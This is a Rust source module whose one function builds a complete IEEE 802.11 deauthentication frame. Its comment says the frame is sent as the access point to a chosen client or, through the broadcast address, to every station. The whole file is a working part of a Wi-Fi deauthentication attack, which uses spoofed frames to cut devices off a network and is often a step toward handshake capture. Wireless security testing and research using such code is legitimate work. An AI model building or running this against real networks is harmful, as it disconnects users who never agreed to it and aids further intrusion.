use crate::mac::MacAddress;

pub const DEAUTH_FRAME_LEN: usize = 26;

const FRAME_CONTROL: [u8; 2] = [0xC0, 0x00];
const DURATION: [u8; 2] = [0x3A, 0x01];
const SEQUENCE_CONTROL: [u8; 2] = [0x00, 0x00];

/// Reason 1 ("unspecified"), little-endian.
pub const REASON_CODE: u16 = 0x0001;

/// Builds a deauthentication frame sent as the access point `bssid` to
/// `destination` (use [`MacAddress::BROADCAST`] to address every station).
pub fn build_deauth(bssid: MacAddress, destination: MacAddress) -> [u8; DEAUTH_FRAME_LEN] {
    let mut frame = [0u8; DEAUTH_FRAME_LEN];
    frame[0..2].copy_from_slice(&FRAME_CONTROL);
    frame[2..4].copy_from_slice(&DURATION);
    frame[4..10].copy_from_slice(destination.as_bytes());
    frame[10..16].copy_from_slice(bssid.as_bytes());
    frame[16..22].copy_from_slice(bssid.as_bytes());
    frame[22..24].copy_from_slice(&SEQUENCE_CONTROL);
    frame[24..26].copy_from_slice(&REASON_CODE.to_le_bytes());
    frame
}
